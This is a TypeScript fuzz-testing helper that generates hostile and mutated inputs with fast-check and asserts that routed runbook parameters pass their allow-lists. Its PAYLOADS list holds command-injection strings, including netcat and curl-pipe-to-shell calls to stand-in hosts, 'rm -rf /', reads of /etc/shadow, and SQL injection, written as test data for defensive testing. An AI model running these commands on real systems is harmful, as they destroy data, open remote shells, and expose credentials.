/**
 * Shared pieces of the generated-input suites (test/fuzz): reproducible fast-check settings, hostile
 * values, mutations of real samples, and the checks every routed value must pass.
 *
 * Reproducible: every property runs with a fixed seed (FUZZ_SEED to explore others); on a failure
 * fast-check prints the seed and the path of the shrunk counterexample, which replay it exactly.
 * FUZZ_SCALE multiplies every property's number of runs (e.g. FUZZ_SCALE=10 for a long run).
 */
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { SAFE_ARG } from '../../activities/command-line';
import type { Route } from '../../client/intake';
import { RUNBOOKS } from '../../client/runbooks';
import { check } from '../../parsers/patterns';

export const SEED = Number(process.env.FUZZ_SEED ?? 20261213);
const SCALE = Number(process.env.FUZZ_SCALE ?? 1);

/** fast-check parameters: the fixed seed and `n` runs (scaled). */
export function settings(n: number): fc.Parameters<unknown> {
  return { seed: SEED, numRuns: Math.max(1, Math.round(n * SCALE)) };
}

/** Counts what the properties tried, for recordFigures. */
export class Tally {
  readonly counts: Record<string, number> = {};
  add(what: string, n = 1): void {
    this.counts[what] = (this.counts[what] ?? 0) + n;
  }
}

/**
 * Characters no allow-list accepts in any value that routes to a run, and that no parser treats as
 * white space: shell metacharacters, `/ @ % + =`, control characters, and non-ASCII look-alikes.
 * A value containing one of them can never be a service, instance, map, node or cluster name.
 */
export const POISON = [
  ...';&|$`\\\'"<>(){}[]*?!~#^/@%+=',
  ...'\x00\x01\x07\x08\x1b\x1f\x7f',
  '\u0430', // Cyrillic a
  '\uff1b', // fullwidth semicolon
  '\u202e', // right-to-left override
  '\u200b', // zero-width space
  '\u00e9',
  '\u{1f4a5}',
  '\ud800', // lone surrogate
];

/** Classic payloads; each contains a POISON character. */
export const PAYLOADS = [
  '$(reboot)',
  '`id`',
  ';rm -rf /',
  '| nc 10.0.0.1 4444',
  '&& curl http://x/y | sh',
  "' OR '1'='1",
  '"; reboot; "',
  '${IFS}cat${IFS}/etc/shadow',
  '../../etc/passwd',
  '$HOME',
  '>/dev/sda',
  '\x00',
  '\u202ecox',
  '%0a',
  '{a,b}',
];

/** A hostile fragment: a classic payload, or arbitrary text with a POISON character inside. */
export const hostile: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...PAYLOADS),
  fc
    .tuple(fc.string({ maxLength: 12 }), fc.constantFrom(...POISON), fc.string({ unit: 'binary', maxLength: 12 }))
    .map(([a, p, b]) => `${a}${p}${b}`),
);

/** Whether a string carries a POISON character (so it must never reach a command line). */
export const poisoned = (s: string): boolean => POISON.some((p) => s.includes(p));

/** Any text: ASCII, full Unicode (with lone surrogates), or tokens of the alert and tool vocabulary. */
export function anyText(vocabulary: string[]): fc.Arbitrary<string> {
  const token = fc.oneof(fc.constantFrom(...vocabulary), fc.constantFrom(' ', '  ', '\t', '\n', '\r\n', '-', '[', ']', ','), hostile, fc.string({ maxLength: 8 }));
  return fc.oneof(
    fc.string({ maxLength: 200 }),
    fc.string({ unit: 'binary', maxLength: 200 }),
    fc.string({ unit: fc.constantFrom(...'0123P -_[],.:;\t\n'), maxLength: 80 }),
    fc.array(token, { maxLength: 30 }).map((ts) => ts.join('')),
  );
}

/**
 * A real sample changed a little: a hostile fragment inserted, a range deleted or duplicated, a
 * character replaced, white space changed, lines dropped or swapped, or the text cut short.
 */
export function mutated(samples: string[]): fc.Arbitrary<string> {
  const edit = fc.oneof(
    fc.tuple(fc.constant('insert' as const), fc.nat(), hostile),
    fc.tuple(fc.constant('insert' as const), fc.nat(), fc.string({ unit: 'binary', maxLength: 4 })),
    fc.tuple(fc.constant('delete' as const), fc.nat(), fc.integer({ min: 1, max: 12 })),
    fc.tuple(fc.constant('duplicate' as const), fc.nat(), fc.integer({ min: 1, max: 40 })),
    fc.tuple(fc.constant('replace' as const), fc.nat(), fc.constantFrom(...POISON, ' ', '\t', '\n', '0', '9', 'a', 'Z', '-', '_', '.', ':')),
    fc.tuple(fc.constant('truncate' as const), fc.nat(), fc.constant(0)),
    fc.tuple(fc.constant('swap-lines' as const), fc.nat(), fc.nat()),
    fc.tuple(fc.constant('spaces' as const), fc.nat(), fc.constantFrom('\t', '   ', '\r\n', '\u00a0', '')),
  );
  return fc.tuple(fc.constantFrom(...samples), fc.array(edit, { minLength: 1, maxLength: 4 })).map(([s, edits]) => edits.reduce(applyEdit, s));
}

type Edit = ['insert' | 'delete' | 'duplicate' | 'replace' | 'truncate' | 'swap-lines' | 'spaces', number, string | number];

function applyEdit(s: string, [kind, at, arg]: Edit): string {
  const i = s.length === 0 ? 0 : at % (s.length + 1);
  switch (kind) {
    case 'insert':
      return s.slice(0, i) + String(arg) + s.slice(i);
    case 'delete':
      return s.slice(0, i) + s.slice(i + Number(arg));
    case 'duplicate':
      return s.slice(0, i + Number(arg)) + s.slice(i);
    case 'replace':
      return s.slice(0, i) + String(arg) + s.slice(i + 1);
    case 'truncate':
      return s.slice(0, i);
    case 'swap-lines': {
      const lines = s.split('\n');
      const a = at % lines.length;
      const b = Number(arg) % lines.length;
      [lines[a], lines[b]] = [lines[b], lines[a]];
      return lines.join('\n');
    }
    case 'spaces':
      return s.replace(/ +/g, (m, off: number) => (off % 3 === at % 3 ? String(arg) : m));
  }
}

/** Every route names a runbook of the catalogue with exactly its parameters, each passing its allow-list and SAFE_ARG. */
export function assertRoutesSafe(routes: Route[], input: unknown): void {
  for (const r of routes) {
    const spec = RUNBOOKS[r.runbook];
    assert.ok(spec, `unknown runbook ${r.runbook} routed from ${JSON.stringify(input)}`);
    assert.deepEqual(Object.keys(r.params).sort(), Object.keys(spec.params).sort(), `parameters of ${r.runbook}`);
    for (const [k, v] of Object.entries(r.params)) {
      const c = check(spec.params[k], k, v);
      assert.ok(c.ok, `${r.runbook}.${k} ${JSON.stringify(v)} routed from ${JSON.stringify(input)} fails its allow-list: ${!c.ok && c.error}`);
      assert.match(v, SAFE_ARG);
      assert.equal(poisoned(v), false);
    }
  }
}

/** A parser's failure must say why: a non-empty reason (and a positive line number when it gives one). */
export function assertReason(r: { ok: boolean; error?: string; line?: number }, input: unknown): void {
  if (r.ok) return;
  assert.equal(typeof r.error, 'string', `no reason for ${JSON.stringify(input)}`);
  assert.ok((r.error ?? '').trim().length > 0, `empty reason for ${JSON.stringify(input)}`);
  if (r.line !== undefined) assert.ok(Number.isInteger(r.line) && r.line >= 0, `line ${r.line}`);
}

/** Fails the calling test if anything in this process rejected or threw without a handler. */
export function trapUnhandled(): { check(): void; release(): void } {
  const seen: string[] = [];
  const onRejection = (reason: unknown) => seen.push(`unhandledRejection: ${reason instanceof Error ? reason.stack : String(reason)}`);
  const onException = (err: Error) => seen.push(`uncaughtException: ${err.stack}`);
  process.on('unhandledRejection', onRejection);
  process.on('uncaughtException', onException);
  return {
    check: () => assert.deepEqual(seen, [], 'nothing may reject or throw unhandled'),
    release: () => {
      process.off('unhandledRejection', onRejection);
      process.off('uncaughtException', onException);
    },
  };
}
